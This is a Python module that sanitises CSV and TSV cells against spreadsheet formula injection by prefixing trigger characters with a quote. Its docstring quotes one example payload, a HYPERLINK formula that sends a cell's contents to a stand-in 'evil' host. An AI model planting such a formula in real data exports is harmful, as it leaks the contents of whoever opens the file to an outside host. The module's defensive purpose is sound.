"""CSV and TSV cells that a spreadsheet shows as data, never runs as a formula (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets treat a cell whose first character is ``=``, ``+``, ``-``, ``@``, tab or
carriage return as a formula, so a record string such as ``=HYPERLINK("http://evil/?"&A1)`` in an algorithm name
would run when someone opens ``runs.csv``. ``neutral_cell`` prefixes such a text cell with a single quote, the
spreadsheets' own "this is text" marker (shown as-is by plain CSV readers, the lesser evil), and ``write_csv``
applies it to every cell, headers included, and quotes every text cell (the other half of OWASP's advice).

Numbers are written as numbers: a finite int or float is Python's own literal (``-0.057``, ``1e-05``), which every
spreadsheet and ``pandas.read_csv`` reads as a number, not a formula, so metric columns stay numeric. Only values
that are numbers in Python get that treatment; a string that looks like one (``"-1+1"``) is text and is prefixed.
A non-finite number is text (``nan``, ``inf``; ``-inf`` becomes ``'-inf``) since a spreadsheet would read
``-inf`` as a formula. Every CSV/TSV writer in alignzoo goes through ``write_csv``.
"""

from __future__ import annotations

import csv
import io
import math
from typing import Any, Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")  # OWASP's list, and NUL (OWASP ASVS)


def neutral_cell(value: Any) -> Any:
    """``value`` as a cell: None -> "", a finite number unchanged, any other value text that starts with no
    formula trigger."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool) and math.isfinite(value):
        return value
    text = str(value)
    return "'" + text if text.startswith(TRIGGERS) else text


def write_csv(header: list[str], rows: Iterable[Iterable[Any]], *, delimiter: str = ",") -> str:
    """The table as CSV (``delimiter="\\t"`` for TSV) text, every cell through ``neutral_cell``; text cells are
    quoted, numbers are not."""
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    writer.writerow([neutral_cell(h) for h in header])
    writer.writerows([neutral_cell(v) for v in row] for row in rows)
    return buf.getvalue()
